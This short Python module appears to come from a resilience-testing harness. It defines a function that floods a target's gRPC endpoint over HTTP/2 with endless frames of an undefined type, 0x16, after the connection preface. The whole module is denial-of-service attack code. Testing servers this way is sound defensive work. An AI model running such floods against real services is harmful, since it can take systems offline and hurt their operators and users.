"""Frames of types that HTTP/2 does not have, which must be ignored."""

import itertools

from wire import PREFACE, flood_connection, frame, settings


def flood(target, until):
    chunk = frame(0x16, payload=bytes(8)) * 1_000
    return flood_connection(target.grpc, until, PREFACE + settings(), lambda: itertools.repeat(chunk))
